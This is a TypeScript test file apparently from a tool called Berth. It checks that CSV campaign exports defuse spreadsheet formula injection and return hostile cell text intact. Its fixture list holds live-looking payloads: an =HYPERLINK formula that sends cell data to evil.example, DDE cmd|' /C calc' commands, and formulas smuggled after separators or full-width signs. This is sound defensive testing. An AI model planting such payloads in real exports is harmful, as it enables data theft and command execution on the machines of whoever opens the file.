// sandbox: none (test/fakes/fake-runner.ts)
// CSV injection. The rule this holds everywhere: text from hostile sources that Berth writes
// as CSV must never be read as a formula by the spreadsheet that opens it, and must come back
// whole. Every CSV Berth writes goes through src/shared/csv.ts; today that is the campaign
// export (GET …/campaigns/ID/export?format=csv, which `berth campaign export` and the web
// UI's Export link hand on as they got it). Its cells carry repository names, failure reasons
// and a forge's answers (pull request URL, state, checks, review): here each holds hostile
// text, written where the forge and the task would have written it, and read back through
// the real API and CLI. Before the shared module, the export put a ' before a cell starting
// with = + - @, tab or CR, but not one starting with a line break, a space or a full-width ＝,
// and a semicolon or tab inside a cell let a spreadsheet that splits on those (Excel in many
// locales, import dialogs) start a new cell there with =: this file failed on all of them.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { csvTable } from '../../src/shared/csv.ts';
import { createBareRepos } from '../fakes/git-server.ts';
import { startTestBerth, waitFor, type TestBerth } from '../helpers.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "'=1+1",
  'say "hi", then =1+1',
  'first line\n=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x,=1+1',
  'plain text',
];

/** A cell that some spreadsheet would evaluate: a formula sign, after any blanks it trims. */
const FORMULA = /^[\s]*[=+\-@＝＋－＠]/u;

/** RFC 4180 read with any separator: the cells as a spreadsheet splitting on `sep` sees them. */
function parse(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === sep) row.push(cell), (cell = '');
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell), rows.push(row), (row = []), (cell = '');
    } else cell += c;
  }
  // Split otherwise than on commas, the quotes may not line up: the rest is one cell then.
  assert.ok(!quoted || sep !== ',', 'a quote left open');
  if (cell !== '' || row.length || quoted) row.push(cell), rows.push(row);
  return rows;
}

/** The guards off: a ' at the start of a cell, or after a semicolon, tab or line break in it, was put there. */
function unguard(cell: string): string {
  let out = '';
  let after = true;
  for (const c of cell) {
    if (after && c === "'") after = false;
    else (out += c), (after = /[;\t\r\n]/.test(c));
  }
  return out;
}

/** No cell starts a formula, however the file is split; split on commas it reads back as `expected`. */
function assertSafe(csv: string, expected: string[][]): void {
  for (const sep of [',', ';', '\t']) {
    for (const row of parse(csv, sep)) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `split on ${JSON.stringify(sep)}, a cell starts a formula: ${JSON.stringify(cell)}`);
  }
  assert.deepEqual(parse(csv, ',').map((row) => row.map(unguard)), expected);
}

let t: TestBerth;
let root: string;
const db = () => t.berth.database.db;

before(async () => {
  root = await mkdtemp(join(tmpdir(), 'berth-csv-'));
  t = await startTestBerth({ fake: true });
});
after(async () => {
  await t?.destroy();
  if (root) await rm(root, { recursive: true, force: true });
});

describe('CSV injection', () => {
  test('campaign export: hostile repository names, reasons and forge answers are never a formula, and come back whole', async () => {
    const repos = await createBareRepos({ root, names: HOSTILE.map((_, i) => `r${i}.git`), files: { 'a.txt': 'a\n' } });
    const made = await t.api('POST', '/api/orgs/default/campaigns', { name: 'hostile', goal: 'bump a.txt', repos, agent: 'command', command: 'echo bumped >> a.txt', forgeRate: '50/s' });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    const id = made.body.campaign.id as string;
    await waitFor('campaign hostile to finish', async () => (await t.api('GET', `/api/orgs/default/campaigns/${id}`)).body.state === 'done', 60_000);

    // What a hostile forge, repository list and task would have left in each column: every
    // target gets every hostile value, each in a different column.
    const rows = await db().selectFrom('campaign_targets').select(['id', 'seq']).where('campaign_id', '=', id).orderBy('seq').execute();
    assert.equal(rows.length, HOSTILE.length);
    const at = (i: number, k: number) => HOSTILE[(i + k) % HOSTILE.length]!;
    for (const [i, r] of rows.entries()) {
      await db()
        .updateTable('campaign_targets')
        .set({ repo: at(i, 0), reason: at(i, 1), change_request: JSON.stringify({ kind: 'pull_request', url: at(i, 2), number: 1, draft: false }), pr_state: at(i, 3), pr_checks: at(i, 4), pr_review: at(i, 5) })
        .where('id', '=', r.id)
        .execute();
    }

    const json = await t.api('GET', `/api/orgs/default/campaigns/${id}/export?format=json`);
    assert.equal(json.status, 200, JSON.stringify(json.body));
    const targets = json.body.targets as { repo: string; project: string | null; state: string; attempts: number; taskId: string | null; failure: string | null; reason: string | null; changeRequest: { url: string; state: string; checks: string; review: string }; startedAt: string; finishedAt: string }[];
    const header = ['repo', 'project', 'state', 'attempts', 'task', 'failure', 'reason', 'change_request', 'pr_state', 'checks', 'review', 'started_at', 'finished_at'];
    const expected = [header, ...targets.map((x) => [x.repo, x.project ?? '', x.state, String(x.attempts), x.taskId ?? '', x.failure ?? '', x.reason ?? '', x.changeRequest.url, x.changeRequest.state, x.changeRequest.checks, x.changeRequest.review, x.startedAt, x.finishedAt])];
    assert.deepEqual(targets.map((x) => [x.repo, x.reason, x.changeRequest.url, x.changeRequest.state, x.changeRequest.checks, x.changeRequest.review]), HOSTILE.map((_, i) => [0, 1, 2, 3, 4, 5].map((k) => at(i, k))));

    const csv = await t.api('GET', `/api/orgs/default/campaigns/${id}/export?format=csv`);
    assert.equal(csv.status, 200);
    assertSafe(csv.body as string, expected);

    // The CLI writes what the API sent, byte for byte.
    const cli = await t.cli(['campaign', 'export', 'hostile', '--format', 'csv']);
    assert.equal(cli.code, 0, cli.stderr);
    assert.equal(cli.stdout, csv.body);
  });

  test('the shared writer, on random cells of formula signs, quotes, separators and line breaks', () => {
    const alphabet = ['=', '+', '-', '@', '＝', "'", '"', ',', ';', '\t', '\r', '\n', ' ', 'a', '1'];
    const pick = () => Array.from({ length: Math.floor(Math.random() * 8) }, () => alphabet[Math.floor(Math.random() * alphabet.length)]).join('');
    for (let n = 0; n < 500; n++) {
      const rows = Array.from({ length: 3 }, () => [pick(), pick(), pick()]);
      assertSafe(csvTable(['a', 'b', 'c'], rows), [['a', 'b', 'c'], ...rows]);
    }
  });
});
